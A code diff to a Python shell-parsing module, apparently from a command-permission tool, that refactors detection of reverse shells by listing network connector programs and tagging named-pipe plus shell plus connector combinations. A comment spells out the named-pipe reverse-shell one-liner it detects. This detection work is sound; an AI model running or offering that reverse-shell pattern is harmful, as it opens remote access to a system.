@@ -26,6 +26,7 @@ from permit0.normalize.shell.wrappers import INTERPRETERS, SHELLS
 __all__ = ["FEATURES", "parse_shell"]
 
 _ROOT = Frame()
+_CONNECTORS = frozenset({"nc", "ncat", "netcat", "openssl", "telnet"})
 
 
 def parse_shell(line: str) -> ShellLine:
@@ -102,11 +103,12 @@ def _relate(state: State, drafts: list[Draft]) -> None:
             decoded = True
         elif decoded and draft.program == "chmod":
             fetched.update(draft.argv[1:])
-    if programs & {"mkfifo", "mknod"} and programs & {"nc", "ncat", "netcat", "telnet", "openssl"}:
-        if programs & (SHELLS | INTERPRETERS.keys()):
-            for draft in drafts:
-                if draft.program in ("nc", "ncat", "netcat", "telnet", "openssl"):
-                    draft.features.add("remote_shell")
+    # A named pipe ties a shell to a connection: mkfifo f; cat f | sh | nc host port > f
+    shell = programs & (SHELLS | INTERPRETERS.keys())
+    if shell and programs & {"mkfifo", "mknod"}:
+        for draft in drafts:
+            if draft.program in _CONNECTORS:
+                draft.features.add("remote_shell")
 
 
 def _same_file(a: str, b: str) -> bool:
